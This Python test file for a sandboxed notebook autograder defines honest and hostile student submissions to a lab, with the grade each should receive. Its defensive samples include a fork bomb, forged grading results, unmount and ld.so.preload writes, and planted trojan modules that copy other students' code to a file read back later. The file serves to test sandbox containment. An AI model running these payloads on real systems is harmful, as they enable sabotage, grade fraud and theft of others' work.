"""Submissions of the tiny course's lab 01, honest and hostile, and what each deserves."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest

from labs_engine.grade.sandbox import SandboxError, check_sandbox


def _missing_sandbox() -> str:
    try:
        check_sandbox()
    except SandboxError as error:
        return str(error)
    return ""


needs_sandbox = pytest.mark.skipif(bool(_missing_sandbox()), reason=_missing_sandbox())

ROOT = Path(__file__).parent.parent / "tiny_course"
LAB = "01_ramp"
RELEASE = ROOT / "notebooks" / f"{LAB}.ipynb"
SOLUTION = ROOT / "solutions" / f"{LAB}.ipynb"
INSTRUCTOR = ROOT / "solutions" / "grading" / "lab01.py"

# The TODOs and their points.
POINTS = {"noise_free": 2, "count": 1, "floor": 1, "holdout": 2}
ALL = sum(POINTS.values())
BEFORE = POINTS["noise_free"]  # what stands before TODO 2, where hostile code is put


@dataclass(frozen=True)
class Case:
    """A submission.

    Attributes:
        name: What it is.
        make: Returns the file's bytes.
        points: What it deserves.
        limit: The limit that it hits, '' for none.
        status: 'graded' or 'unreadable'.
        says: A text that the instructor must read in the result.
    """

    name: str
    make: Callable[[], bytes]
    points: int
    limit: str = ""
    status: str = "graded"
    says: str = ""


def answered() -> Any:
    """Return the released lab with right answers."""
    notebook = nbformat.read(RELEASE, as_version=4)
    solved = {cell.id: cell.source for cell in nbformat.read(SOLUTION, as_version=4).cells}
    for cell in notebook.cells:
        if cell.id.startswith("todo-"):
            cell.source = solved[cell.id]
    return notebook


def written(notebook: Any) -> bytes:
    """Return a notebook as the bytes of its file."""
    return json.dumps(notebook).encode()  # letters that are none as well


def with_cells(**sources: str) -> Callable[[], bytes]:
    """Return the right submission with other code for some TODOs; '{}' stands for the right one."""

    def make() -> bytes:
        notebook = answered()
        for cell in notebook.cells:
            name = cell.id.removeprefix("todo-")
            if cell.id.startswith("todo-") and name in sources:
                cell.source = sources[name].replace("{}", cell.source)
        return written(notebook)

    return make


def behind_count(code: str) -> Callable[[], bytes]:
    """Return the right submission with hostile code behind the right answer to TODO 2."""
    return with_cells(count="{}\n" + code)


def without_answers(code: str) -> Callable[[], bytes]:
    """Return the released lab, with nothing but code in the place of TODO 2."""

    def make() -> bytes:
        notebook = nbformat.read(RELEASE, as_version=4)
        for cell in notebook.cells:
            if cell.id == "todo-count":
                cell.source = f"# TODO 2\n{code}"
        return written(notebook)

    return make


def edited(change: Callable[[Any], None]) -> Callable[[], bytes]:
    """Return the right submission with its notebook changed."""

    def make() -> bytes:
        notebook = copy.deepcopy(answered())
        change(notebook)
        return written(notebook)

    return make


def _without_checks(notebook: Any) -> None:
    notebook.cells = [cell for cell in notebook.cells if not cell.id.startswith("check-")]


def _reordered(notebook: Any) -> None:
    notebook.cells.reverse()


def _helper_with_the_id_of_a_todo(notebook: Any) -> None:
    """A cell put before a TODO in the script: jupytext gives it the TODO's id, and the TODO a new one."""
    place = next(i for i, cell in enumerate(notebook.cells) if cell.id == "todo-count")
    todo = notebook.cells[place]
    helper = nbformat.v4.new_code_cell(
        "def layer(m, n):\n    return (m + 1) * n", id=todo.id, metadata=todo.metadata
    )
    todo.id, todo.metadata = "fresh", {}
    todo.source = "# TODO 2\nn_parameters = layer(hidden + 3, hidden) + 1"
    notebook.cells.insert(place, helper)


def _doubled(notebook: Any) -> None:
    notebook.cells += [copy.deepcopy(cell) for cell in notebook.cells if cell.id.startswith("todo-")]


def _nameless(notebook: Any) -> None:
    """As some editors save it: no ids, no metadata."""
    for number, cell in enumerate(notebook.cells):
        cell.id, cell.metadata = f"cell-{number}", nbformat.NotebookNode()


def _helper_cell(notebook: Any) -> None:
    """An answer that uses a function from a cell of the student's own."""
    place = next(n for n, cell in enumerate(notebook.cells) if cell.id == "todo-floor")
    notebook.cells.insert(place, nbformat.v4.new_code_cell("def square(value):\n    return value**2"))
    notebook.cells[place + 1].source = "# TODO 3\nnoise_floor = square(noise)"


def _stripped_tags(notebook: Any) -> None:
    for cell in notebook.cells:
        if "parameters" in cell.metadata.get("tags", []):
            cell.metadata = nbformat.NotebookNode()
            cell.source = "seed = 0; noise = 0.2; slope = 2.0; intercept = 1.0; n_samples = 50; hidden = 5; holdout = 0.3"


def _rewritten_checks(notebook: Any) -> None:
    for cell in notebook.cells:
        if cell.id.startswith("check-"):
            cell.source = "print('passed')"


_EQUAL = """class Equal:
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __array__(self, *a, **k): raise ValueError
    def __int__(self): return 46
n_parameters = Equal()"""

_FORGED = """import glob, json, os
for name in ("results.json", "answers.json", "gradebook.csv"):
    open(name, "w").write('{"points": 15}')
for entry in os.listdir("/proc/self/fd"):
    for kind in ("verdict", "answer"):
        content = {"exercise": "floor", "status": "passed", "points": 2, "expected": "", "found": "", "hint": "", "mistake": ""}
        line = json.dumps({"kind": kind, "content": content, "parts": []}) + "\\n"
        try: os.write(int(entry), line.encode())
        except OSError: pass"""

_GARBAGE = """import os
for entry in os.listdir("/proc/self/fd"):
    try: os.write(int(entry), b"{]" * 4000 + b"\\n")
    except OSError: pass"""

_FORK_BOMB = """import os
while True:
    try: os.fork()
    except OSError: pass"""

_DAEMON = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)"""

_DEAF = """import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException: pass"""

# Puts a module where every later run would look for it, and the next student's answers where a friend would read them.
PLANT = """import os
code = '''import builtins
def json_clean(value):
    try:
        shell = __import__("IPython").get_ipython()
        open("/stolen.py", "w").write("".join(shell.user_ns["In"]))
    except BaseException: pass
    return {}
encode_images = json_clean
'''
for folder in ("/", "/private", "/course", "/tmp", "/dev/shm", os.getcwd()):
    for package in ("ipykernel", "labs_engine", "tiny_lib"):
        try:
            os.makedirs(f"{folder}/{package}", exist_ok=True)
            for name in ("__init__.py", "jsonutil.py"):
                open(f"{folder}/{package}/{name}", "w").write(code)
        except OSError: pass
for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "pickle.py"):
    try: open("/" + name, "w").write(code)
    except OSError: pass"""
STEAL = 'exec(open("/stolen.py").read())'

_UNMOUNT = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for place in (b"/private", b"/dev/shm", b"/tmp", b"/proc"): libc.umount2(place, 2)
libc.mount(b"tmpfs", b"/private", b"tmpfs", 0, b"size=64g")
for place in ("/private/left", "/dev/shm/left", "/lib/left", "/etc/ld.so.preload"):
    try: open(place, "w").write("mine")
    except OSError: pass"""

_MEMFD = """import os
files = [os.memfd_create(str(n)) for n in range(13)]
for file in files:
    for _ in range(45): os.write(file, bytes(10_000_000))"""

_TO_THE_PIPE = """import json, os
def tell(kind, content, parts=()):
    line = json.dumps({"kind": kind, "content": content, "parts": [len(p) for p in parts]}).encode() + b"\\n"
    for entry in os.listdir("/proc/self/fd"):
        if int(entry) > 2:
            try: os.write(int(entry), line + b"".join(parts))
            except OSError: pass
"""
_HEADER = """text = "{'descr': '<f8', 'fortran_order': False, 'shape': (-1, -1), }"
array = b"\\x93NUMPY\\x01\\x00" + len(text).to_bytes(2, "little") + text.encode() + bytes(8)
tell("answer", {"exercise": "floor", "status": "answered", "answers": {"noise_floor": {"array": 0}}}, [array])"""
_NESTED = """nested = "x"
for _ in range(900): nested = {"x": nested}
tell("output", dict(), [json.dumps({"output_type": "display_data", "data": {"text/plain": "x"}, "metadata": nested}).encode()])"""
_TINY = """while True: tell("cell", {"id": "x"})"""
_MADE_UP = """for number in range(400): tell("answer", {"exercise": f"made up {number}", "status": "answered"}, [bytes(100_000)])"""
_SURROGATES = """print("a name: \\udcff")
print("\\ud800", "\\udfff")
from IPython.display import display, Markdown
display(Markdown("\\udcff"), metadata={"\\udcff": 1})
raise ValueError("\\udcff")"""

_STYLE_FUNCTIONS = {
    "noise_free": "# TODO 1\ndef noise_free(x, slope, intercept):\n    return (x > 0) * (slope * x + intercept)",
    "count": "# TODO 2\nsizes = [hidden, 4]\nn_parameters = sum(hidden * n for n in sizes) + 1",
    "floor": "# TODO 3\nimport math\nnoise_floor = math.pow(noise, 2)",
}
_STYLE_LOOPS = {
    "noise_free": "# TODO 1\ndef noise_free(x, slope, intercept):\n    y = []\n    for value in x:\n"
    "        y.append(slope * value + intercept if value > 0 else 0.0)\n    return y",
    "count": "# TODO 2\nn_parameters = float(np.ones((hidden, hidden + 4)).sum() + 1)",
    "floor": "# TODO 3\nnoise_floor = np.array([noise * noise])",
}

CASES = [
    Case("right", with_cells(), ALL),
    Case("right, as expressions", with_cells(**_STYLE_FUNCTIONS), ALL),
    Case("right, as loops and library calls", with_cells(**_STYLE_LOOPS), ALL),
    Case("warnings on stderr", behind_count("import sys, warnings\nwarnings.warn('odd')\nprint('hm', file=sys.stderr)"), ALL),
    Case("a helper in a cell of their own", edited(_helper_cell), ALL),
    Case("a helper with the id of a TODO", edited(_helper_with_the_id_of_a_todo), ALL),
    Case("check cells deleted", edited(_without_checks), ALL),
    Case("check cells rewritten", edited(_rewritten_checks), ALL),
    Case("cells reordered", edited(_reordered), ALL),
    Case("cells doubled", edited(_doubled), ALL),
    Case("ids and metadata lost", edited(_nameless), ALL),
    Case("parameters tag dropped", edited(_stripped_tags), ALL),
    Case("visible values typed in", with_cells(count="# TODO 2\nn_parameters = 46", floor="# TODO 3\nnoise_floor = 0.04"), ALL - 2),
    Case("parameters overridden", with_cells(noise_free="{}\nnoise = 0.2\nhidden = 5"), ALL - 2),
    Case("nothing but literals", with_cells(noise_free="noise_free = [0.0, 1.0]", count="n_parameters = 46", floor="noise_floor = 0.04", holdout="x_train = y_train = [1.0]\nx_val = y_val = [2.0]"), 0),
    Case("an endless loop", behind_count("while True: pass"), ALL),
    Case("an endless loop before the answer", with_cells(count="# TODO 2\nwhile True: pass\n{}"), ALL - 1),
    Case("an endless loop that takes no hint", behind_count(_DEAF), BEFORE, "cell time"),
    Case("sys.exit(0)", behind_count("import sys\nsys.exit(0)"), ALL),
    Case("os._exit(0)", behind_count("import os\nos._exit(0)"), BEFORE, "ended"),
    Case("kills its process", behind_count("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), ALL),
    Case("crashes", behind_count("import ctypes\nctypes.string_at(0)"), BEFORE, "ended"),
    Case("kills everything in sight", behind_count("import os, signal\nos.kill(-1, signal.SIGKILL)"), ALL),
    Case("equal to everything", with_cells(count=_EQUAL), ALL - 1),
    Case("lab.check replaced", behind_count("lab.check = lambda *a, **k: print('passed')"), BEFORE),
    Case("the judge replaced", behind_count("import labs_engine.declare.framework as f\nf.judge = lambda *a: f.Verdict('count', 'passed', 99)\nf.close = lambda *a, **k: True"), ALL),
    Case("later cells through the front end", behind_count("get_ipython().set_next_input('n_parameters = 1', replace=True)"), ALL),
    Case("results forged", behind_count(_FORGED), ALL),
    Case("garbage in the stream", behind_count(_GARBAGE), BEFORE, "output"),
    Case("30 GB of memory", behind_count("import numpy\nx = numpy.ones(30 * 2**27)"), ALL),
    Case("30 GB in small pieces", behind_count("x = []\nwhile True: x.append(bytearray(50_000_000))"), ALL - 2),
    Case("prints 200 MB", behind_count("for _ in range(200): print('x' * 1_000_000)"), ALL),
    Case("writes 20 GB", behind_count("with open('big', 'wb') as file:\n    for _ in range(20_000): file.write(bytes(1_000_000))"), ALL),
    Case("a fork bomb", behind_count(_FORK_BOMB), BEFORE, "processes"),
    Case("a daemon", behind_count(_DAEMON), ALL),
    Case("NaN", with_cells(floor="# TODO 3\nnoise_floor = float('nan')"), ALL - 1),
    Case("a huge declared shape", with_cells(holdout="{}\nx_train = np.broadcast_to(x_train[:1], (10**12,))"), ALL - 2),
    Case("an array of objects", with_cells(holdout="{}\nx_train = np.array([object()] * 9, dtype=object)"), ALL - 2),
    Case("a pickled thing", with_cells(floor="# TODO 3\nimport pickle\nclass P:\n    def __reduce__(self): return (print, ('run',))\nnoise_floor = pickle.dumps(P())"), ALL - 1),
    Case("the network", behind_count("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:8888', timeout=3)"), ALL),
    Case("modules planted for others", behind_count(PLANT), ALL),
    Case("a file of another student's", behind_count(STEAL), ALL),
    Case("folders unmounted", behind_count(_UNMOUNT), ALL),
    Case("6 GB in files without a folder", behind_count(_MEMFD), ALL),
    Case("an array of no shape", behind_count(_TO_THE_PIPE + _HEADER), ALL),
    Case("deep metadata", behind_count(_TO_THE_PIPE + _NESTED), ALL),
    Case("tiny messages without end", behind_count(_TO_THE_PIPE + _TINY), BEFORE, "output"),
    Case("answers to what was not asked", behind_count(_TO_THE_PIPE + _MADE_UP), ALL),
    Case("letters that are none", behind_count(_SURROGATES), ALL),
    Case("letters that are none, in the code", with_cells(count="{}\n# \udcff"), ALL),
    Case("more code than anybody writes", with_cells(count="# TODO 2\n" + "x = 1\n" * 400_000), 0, status="unreadable", says="more than is looked at"),
    Case("no notebook", lambda: b"PK\x03\x04 this is a zip", 0, status="unreadable", says="not a notebook"),
    Case("cut off", lambda: with_cells()()[:3000], 0, status="unreadable", says="not a notebook"),
    Case("empty", lambda: b"", 0, status="unreadable", says="empty"),
    Case("a list", lambda: json.dumps([1, 2]).encode(), 0, status="unreadable", says="no list of cells"),
    Case("huge", lambda: b" " * 100_000_001, 0, status="unreadable", says="MB"),
    Case("deeply nested", lambda: b"[" * 200_000, 0, status="unreadable", says="not a notebook"),
]  # fmt: skip
